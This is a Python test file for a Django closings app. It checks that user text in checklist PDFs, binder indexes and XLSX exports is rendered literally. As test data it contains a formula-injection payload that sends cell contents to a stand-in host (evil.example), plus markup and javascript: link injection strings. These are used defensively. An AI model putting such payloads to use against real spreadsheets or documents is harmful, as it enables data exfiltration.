"""User text in the checklist PDF, the binder index and the XLSX is data, never markup or a formula."""

import io
import zipfile

import pytest
from openpyxl import load_workbook
from PIL import Image
from pypdf import PdfReader

from closings.exports import binder_build, checklist_xlsx
from closings.models import BinderExport, Deliverable
from closings.services import deliverable_create
from tests.factories import PartyFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'


def _pdf(content: bytes) -> PdfReader:
    return PdfReader(io.BytesIO(content))


def _text(reader: PdfReader) -> str:
    return "".join(page.extract_text() for page in reader.pages)


def test_a_deliverable_named_a_less_than_b_renders_literally_in_the_checklist_pdf(client_as, counsel, deal):
    deliverable_create(closing=deal["closing"], data={"description": "A<B Corp", "from_party": deal["company"]})
    response = client_as(counsel).get(f"/closings/{deal['closing'].pk}/checklist.pdf")
    assert response.status_code == 200
    assert "A<B Corp" in _text(_pdf(response.content))


def test_a_party_named_with_img_and_link_markup_appears_literally_and_embeds_nothing(client_as, counsel, deal, tmp_path):
    picture = tmp_path / "x.png"
    Image.new("RGB", (40, 40), "red").save(picture)
    name = f'<img src="{picture}" width="40" height="40"/> <link href="javascript:alert(1)">Click</link>'
    deliverable_create(closing=deal["closing"], data={"description": "Officer's certificate",
                                                      "from_party": PartyFactory(legal_name=name)})
    response = client_as(counsel).get(f"/closings/{deal['closing'].pk}/checklist.pdf")
    reader = _pdf(response.content)
    assert '<link href="javascript:alert(1)">Click</link>' in _text(reader).replace("\n", "")
    assert [len(page.images) for page in reader.pages] == [0] * len(reader.pages)
    assert [page.get("/Annots") for page in reader.pages] == [None] * len(reader.pages)


def test_the_binder_index_shows_markup_in_a_description_literally(client_as, counsel, deal):
    item = deal["items"][0]
    Deliverable.objects.filter(pk=item.pk).update(description='A<B Corp <font size="40">big</font>')
    upload = io.BytesIO(b"the executed note")
    upload.name = "note.txt"
    client_as(counsel).post(f"/closings/deliverables/{item.pk}/status/",
                            {"status": "received", "version": item.version, "evidence": upload}, HTTP_HX_REQUEST="true")
    binder = binder_build(BinderExport.objects.create(closing=deal["closing"]))
    with zipfile.ZipFile(binder.file.open("rb")) as archive:
        index = _text(_pdf(archive.read("000-index.pdf")))
    assert 'A<B Corp <font size="40">big</font>' in index.replace("\n", " ")


def test_a_formula_in_a_description_is_a_neutralized_text_cell_in_the_xlsx(deal):
    deliverable_create(closing=deal["closing"], data={"description": HYPERLINK, "from_party": deal["company"]})
    sheet = load_workbook(io.BytesIO(checklist_xlsx(deal["closing"]))).active
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    formula = next(cell for cell in cells if "HYPERLINK" in str(cell.value))
    assert (formula.value, formula.data_type) == ("'" + HYPERLINK, "s")
    with zipfile.ZipFile(io.BytesIO(checklist_xlsx(deal["closing"]))) as package:
        assert b"<f>" not in package.read("xl/worksheets/sheet1.xml")
